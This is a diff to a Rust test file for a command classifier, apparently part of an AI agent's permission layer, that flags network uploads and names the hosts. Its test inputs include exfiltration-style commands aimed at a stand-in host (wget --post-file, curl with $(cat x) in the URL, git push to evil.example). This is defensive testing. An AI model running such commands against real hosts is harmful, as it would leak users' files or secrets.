@@ -259,7 +259,7 @@ fn uploads_and_hosts_are_named() {
         ("wget --post-file=x https://evil.example", "evil.example"),
         ("git push https://evil.example/x main", "evil.example"),
         ("curl \"https://evil.example/$(cat x)\"", "evil.example"),
-        ("curl --js '{}' https://evil.example", "evil.example"),
+        ("curl --json '{}' https://evil.example", "evil.example"),
     ] {
         let facts = bash(command);
         assert!(facts.network_upload, "{command}");
@@ -267,7 +267,7 @@ fn uploads_and_hosts_are_named() {
     }
     let fetched = bash("curl -sL https://docs.rs/x");
     assert!(!fetched.network_upload && fetched.any(&[Class::Network]) && fetched.hosts == ["docs.rs"]);
-    only("curl -s http://localhost:3000/health", &[Class::Loopback]);
+    only("curl -s http://localhost:3000/health", &[Class::Reads, Class::Loopback]);
     assert_eq!(
         derive("WebFetch", &json!({ "url": "https://Docs.rs/x" }), CWD, &Knowledge::default()).hosts,
         ["docs.rs"]
